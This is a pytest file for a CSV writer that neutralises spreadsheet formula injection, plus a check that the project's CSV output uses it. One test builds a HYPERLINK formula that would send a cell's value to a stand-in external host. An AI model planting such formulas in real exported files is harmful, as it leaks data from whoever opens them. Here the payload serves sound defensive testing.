"""The safe CSV writer: no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from inbeeld.lib import safe_csv

ROOT = Path(__file__).resolve().parents[2]  # the inbeeld package

# CSV written with the plain csv module, and why that is safe. Anything else goes through
# inbeeld.lib.safe_csv.
PLAIN_CSV_ALLOWED = {
    "lib/safe_csv.py": "the safe writer itself",
    "linkage/files.py": "encoded lists: a machine format read back by InBeeld; its fixed-"
    "alphabet columns cannot call a function and record ids must round-trip unchanged "
    "(guarded by linkage/tests/test_csv_safety.py)",
}
WRITES_CSV = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b|\.to_csv\(")


def written(rows: list[list[object]]) -> list[list[str]]:
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_gets_a_quote(start: str) -> None:
    cell = start + 'HYPERLINK("https://example.org/?"&A1,"open")'
    assert written([[cell, "plain"]]) == [["'" + cell, "plain"]]


def test_numbers_are_written_as_they_are() -> None:
    assert written([[-3, -3.5, Decimal("-0.25"), 0, None]]) == [["-3", "-3.5", "-0.25", "0", ""]]


def test_text_that_is_a_plain_number_stays_a_number() -> None:
    numbers: list[object] = ["-3.5", "+31", "-1e5", "-.5", "12"]
    assert written([numbers]) == [numbers]


@pytest.mark.parametrize("text", ["-3.5+A1", "-", "+31 6 12345678", "-١٢", "-1\n=2"])
def test_text_that_only_looks_like_a_number_is_neutralised(text: str) -> None:
    assert written([[text]]) == [["'" + text]]


def test_other_values_are_written_as_their_neutralised_text() -> None:
    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    assert written([[Odd(), {"path": "/a/"}]]) == [["'=1+1", "{'path': '/a/'}"]]


def test_the_writer_takes_csv_writer_options() -> None:
    buffer = io.StringIO()
    writer = safe_csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow(["a", "=b"])
    assert buffer.getvalue() == "a;'=b\n"


def test_every_csv_the_project_writes_goes_through_the_safe_writer() -> None:
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{relative}" or relative.startswith("testing/"):
            continue  # tests and fixtures write input files, not what the project produces
        if WRITES_CSV.search(path.read_text(encoding="utf-8")) and (
            relative not in PLAIN_CSV_ALLOWED
        ):
            offenders.append(relative)
    assert offenders == [], "write CSV with inbeeld.lib.safe_csv.writer, or list the file here"
